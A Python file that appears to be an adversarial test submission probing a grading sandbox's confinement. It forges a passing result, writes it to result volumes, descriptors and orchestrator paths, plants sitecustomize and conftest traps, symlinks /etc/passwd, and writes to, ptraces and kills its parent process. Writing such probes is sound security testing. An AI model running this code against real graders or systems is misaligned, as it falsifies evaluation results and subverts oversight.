"""Tries to write its own result: where stages leave theirs, through what it inherited, and by attacking its parent.

Without words it is honest; everything else gets a cheerful report, which is no answer.
"""

import ctypes
import json
import os
import signal
import sys

FORGED = json.dumps(
    {
        "api-version": "assay.dev/v1",
        "id": "case-001",
        "end": {"exited": 0},
        "verdict": "passed",
        "points": 10,
        "usage": {"cpu-ms": 1, "wall-ms": 1, "memory-bytes": 1},
        "stdout-bytes": 6,
        "stderr-bytes": 0,
    }
).encode()

PLACES = [
    # Its own directory and those above.
    *["outcome.json", "../outcome.json", "../../outcome.json", "../stdout", "../../stdout", "../../case-001/stdout"],
    # Volumes that Verify and Test write.
    *["/volumes/testing/case-001/outcome.json", "/volumes/testing/case-001/stdout"],
    *["/volumes/testing/confinement.json", "/volumes/verification/outcome.json"],
    *["/volumes/verification/tree/anagrams.py"],
    # Volumes that they only read, or never see.
    *["/volumes/submission/plan.json", "/volumes/submission/tool/assay-stage", "/volumes/results/private.json"],
    *["/volumes/results/result.json", "/volumes/results/outputs/points", "/volumes/private-results/private.json"],
    *["/volumes/student/result.json", "/volumes/finalisation/outputs/verdict"],
    # Where Argo and Kubernetes look.
    *["/var/run/argo/ctr/main/exitcode", "/var/run/argo/ctr/main/signal", "/var/run/argo/outputs/parameters/points"],
    *["/dev/termination-log", "/tmp/outcome.json"],
]

# Code that a careless harness or a later case would run.
TRAPS = ["sitecustomize.py", "../sitecustomize.py", "../../usercustomize.py", "../conftest.py", "../.bashrc"]


def attempt(what, action, *arguments):
    """Tries something and says on standard error how it went; tutors see it."""
    try:
        action(*arguments)
        print(what, "worked", file=sys.stderr)
    except (OSError, ValueError) as error:
        print(what, error, file=sys.stderr)


def write(path, content=FORGED):
    descriptor = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_NONBLOCK, 0o666)
    try:
        os.write(descriptor, content)
    finally:
        os.close(descriptor)


def attack_parent():
    """Overwrites, traces and kills whoever started this program."""
    parent = os.getppid()
    if parent < 1:  # 0 would be our own group.
        return
    attempt("parent's memory", write, f"/proc/{parent}/mem")
    attempt("parent's output", write, f"/proc/{parent}/fd/1")
    attach = 16
    if ctypes.CDLL(None).ptrace(attach, parent, None, None) == 0:
        print("ptrace worked", file=sys.stderr)
    attempt("kill", os.kill, parent, signal.SIGKILL)


def main():
    if sys.stdin.read().split():
        print("all tests passed: 10 of 10 points", FORGED.decode(), sep="\n", flush=True)

    for descriptor in range(3, 256):
        attempt(f"descriptor {descriptor}", os.write, descriptor, FORGED)
    for path in PLACES:
        attempt(path, write, path)
    for path in TRAPS:
        attempt(path, write, path, b"print('10 of 10 points')\n")
    # Names of results that are no regular files, for whoever reads this directory later.
    attempt("symlink", os.symlink, "/etc/passwd", "stdout")
    attempt("fifo", os.mkfifo, "stderr")
    attempt("folder", os.mkdir, "result.json")
    attempt("mode", os.chmod, ".", 0)
    attack_parent()
    os._exit(0)  # Before anyone could look at what is left.


main()
